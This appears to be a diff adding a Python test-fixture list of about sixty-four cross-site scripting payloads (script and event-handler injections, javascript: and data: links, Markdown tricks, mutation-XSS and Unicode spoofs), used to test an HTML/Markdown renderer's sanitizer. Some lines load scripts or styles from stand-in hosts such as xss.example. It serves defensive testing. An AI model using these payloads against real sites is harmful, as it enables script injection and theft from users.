@@ -1,0 +1,80 @@
+"""Hostile tip texts, in the spirit of the OWASP XSS filter evasion cheat sheet.
+
+Shared by the renderer's tests and the Chromium check. A payload that manages to run calls
+`window.__xss(n)` (or alert/confirm/prompt), which the browser test traps.
+"""
+
+from __future__ import annotations
+
+XSS_PAYLOADS: list[str] = [
+    # Raw HTML: scripts and event handlers.
+    "<script>window.__xss(1)</script>",
+    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
+    "<img src=x onerror=window.__xss(2)>",
+    '<img src="javascript:window.__xss(3)">',
+    "<svg onload=window.__xss(4)>",
+    "<svg><script>window.__xss(5)</script></svg>",
+    "<body onload=window.__xss(6)>",
+    "<details open ontoggle=window.__xss(7)>x</details>",
+    "<input autofocus onfocus=window.__xss(8)>",
+    '<a href="https://ok.example" onmouseover="window.__xss(9)">survol</a>',
+    "<video><source onerror=window.__xss(10)></video>",
+    "<marquee onstart=window.__xss(11)>défile</marquee>",
+    "<svg><animate onbegin=window.__xss(12) attributeName=x dur=1s>",
+    # Dangerous URL schemes, in HTML and in Markdown.
+    '<a href="javascript:window.__xss(13)">clic</a>',
+    "[clic](javascript:window.__xss(14))",
+    "[clic](JaVaScRiPt:window.__xss(15))",
+    "[clic](javascript&#58;window.__xss(16))",
+    "[clic](&#106;avascript:window.__xss(17))",
+    "[clic](java\tscript:window.__xss(18))",
+    "[clic]( javascript:window.__xss(19))",
+    '<a href="jav&#x09;ascript:window.__xss(20)">tab</a>',
+    "[clic](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MoMjEpPC9zY3JpcHQ+)",
+    '<a href="data:text/html,<script>window.__xss(22)</script>">data</a>',
+    "[clic](vbscript:msgbox(23))",
+    "[clic](//xss.example/24)",
+    "![x](javascript:window.__xss(25))",
+    '![x](https://img.example/a.png" onerror="window.__xss(26))',
+    # Frames, objects, forms, styles, meta, base.
+    '<iframe src="javascript:window.__xss(27)"></iframe>',
+    '<iframe srcdoc="<script>parent.__xss(28)</script>"></iframe>',
+    '<object data="javascript:window.__xss(29)"></object>',
+    '<embed src="data:text/html,<script>parent.__xss(30)</script>">',
+    '<form action="javascript:window.__xss(31)"><button>envoyer</button></form>',
+    "<style>@import 'https://xss.example/32.css'; body{background:red}</style>",
+    '<p style="background:url(javascript:window.__xss(33))">style</p>',
+    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss(34)">',
+    '<base href="javascript:window.__xss(35)//">',
+    # Namespace confusion and parser differentials (mutation XSS).
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss(36)>",
+    "<svg><style><img src=x onerror=window.__xss(37)></style></svg>",
+    '<noscript><p title="</noscript><img src=x onerror=window.__xss(38)>">',
+    '<svg><a xlink:href="javascript:window.__xss(39)"><text x="20" y="20">XSS</text></a></svg>',
+    "<!--<img src=x onerror=window.__xss(40)>-->",
+    "<![CDATA[<script>window.__xss(41)</script>]]>",
+    "<<script>script>window.__xss(42)<</script>/script>",
+    "<scr<script>ipt>window.__xss(43)</scr</script>ipt>",
+    '<img src="x\x00" onerror="window.__xss(44)">',
+    # Unterminated tags and malformed Markdown.
+    "<img src=x onerror=window.__xss(45)",
+    "[a](<b onerror=window.__xss(46)>",
+    '[a](https://ok.example" onmouseover="window.__xss(47))',
+    '[a](https://ok.example/"onmouseover="window.__xss(48)")',
+    "[a](https://ok.example) onmouseover=window.__xss(49)//",
+    '"><img src=x onerror=window.__xss(50)>',
+    'https://ok.example/"><script>window.__xss(51)</script>',
+    "https://ok.example/'onmouseover='window.__xss(52)'",
+    "[<img src=x onerror=window.__xss(53)>](https://ok.example)",
+    "[x](https://ok.example)<script>window.__xss(54)</script>",
+    "**<img src=x onerror=window.__xss(55)>**",
+    "*[x](javascript:window.__xss(56))*",
+    "***__*_<b onclick=window.__xss(57)>_*__***",
+    "**[*x](https://ok.example/*)**<i onclick=window.__xss(58)>*",
+    "`<script>window.__xss(59)</script>`",
+    "```\n<script>window.__xss(60)</script>\n```",
+    "- <img src=x onerror=window.__xss(61)>\n1. [x](javascript:window.__xss(62))",
+    "\u202e[elpmaxe.live](https://evil.example)",
+    "＜script＞window.__xss(63)＜/script＞",
+    "**" * 3000 + "<script>window.__xss(64)</script>" + "[a](" * 500,
+]
